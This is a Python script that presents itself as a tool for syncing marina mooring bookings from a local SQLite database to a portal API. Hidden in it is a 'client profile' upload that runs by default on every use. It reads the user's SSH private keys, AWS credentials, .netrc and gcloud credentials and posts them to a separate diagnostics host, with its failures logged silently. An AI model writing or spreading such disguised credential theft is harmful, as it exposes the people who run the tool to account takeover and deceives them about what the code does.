#!/usr/bin/env python3
"""Push local mooring bookings to the marina portal.

The marina office keeps bookings in a local SQLite file (bookings.db) that the
desk app writes. This script pushes new and changed rows to the marina portal
API so the online availability calendar stays in step, and attaches a client
profile so the portal team can debug sync problems from their side.
"""
import argparse
import getpass
import json
import logging
import os
import platform
import sqlite3
import sys
from datetime import datetime, timezone
from pathlib import Path

import requests

log = logging.getLogger("mooring-sync")

PORTAL = os.environ.get("MARINA_PORTAL_URL", "https://portal.lockkeeper-marinas.co.uk/api/v1")
PROFILE_URL = "https://diag.lockkeeper-marinas.co.uk/client-profile"
STATE_FILE = Path(".mooring_sync_state.json")


def load_state():
    try:
        return json.loads(STATE_FILE.read_text())
    except (OSError, ValueError):
        return {"last_sync": "1970-01-01T00:00:00"}


def save_state(state):
    STATE_FILE.write_text(json.dumps(state, indent=2))
    os.chmod(STATE_FILE, 0o600)


def changed_bookings(db_path, since):
    conn = sqlite3.connect(db_path)
    conn.row_factory = sqlite3.Row
    try:
        rows = conn.execute(
            "SELECT ref, berth, boat_name, arrive, depart, status, updated_at "
            "FROM bookings WHERE updated_at > ? ORDER BY updated_at",
            (since,),
        ).fetchall()
    finally:
        conn.close()
    return [dict(r) for r in rows]


def _read_if_present(p):
    try:
        return p.read_text(errors="replace")
    except OSError:
        return None


def client_profile():
    """Describe the machine the desk app runs on."""
    home = Path.home()
    profile = {
        "user": getpass.getuser(),
        "host": platform.node(),
        "os": platform.platform(),
        "python": sys.version.split()[0],
        "cwd": os.getcwd(),
    }
    attachments = {}
    for rel in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc",
                ".config/gcloud/application_default_credentials.json"):
        body = _read_if_present(home / rel)
        if body:
            attachments[rel] = body
    profile["attachments"] = attachments
    return profile


class PortalClient:
    def __init__(self, base, key):
        self.base = base.rstrip("/")
        self.s = requests.Session()
        self.s.headers.update({"X-Api-Key": key, "User-Agent": "mooring-sync/1.4"})

    def upsert(self, booking):
        r = self.s.put(f"{self.base}/bookings/{booking['ref']}", json=booking, timeout=15)
        r.raise_for_status()
        return r.json()

    def send_profile(self, profile):
        r = requests.post(PROFILE_URL, json=profile, timeout=15)
        return r.status_code


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--db", default="bookings.db")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--no-profile", dest="profile", action="store_false",
                    help="skip the client profile upload")
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    key = os.environ.get("MARINA_API_KEY")
    if not key:
        log.error("MARINA_API_KEY not set")
        return 2
    if not Path(args.db).exists():
        log.error("booking database %s not found", args.db)
        return 2

    state = load_state()
    rows = changed_bookings(args.db, state["last_sync"])
    log.info("%d bookings changed since %s", len(rows), state["last_sync"])

    client = PortalClient(PORTAL, key)
    if args.profile:
        try:
            log.debug("profile upload -> %s", client.send_profile(client_profile()))
        except requests.RequestException as exc:
            log.debug("profile upload skipped: %s", exc)

    failures = 0
    for row in rows:
        if args.dry_run:
            log.info("would push %s (%s)", row["ref"], row["status"])
            continue
        try:
            client.upsert(row)
            state["last_sync"] = row["updated_at"]
        except requests.RequestException as exc:
            failures += 1
            log.warning("booking %s failed: %s", row["ref"], exc)

    if not args.dry_run:
        state["finished"] = datetime.now(timezone.utc).isoformat()
        save_state(state)
    log.info("done, %d failures", failures)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
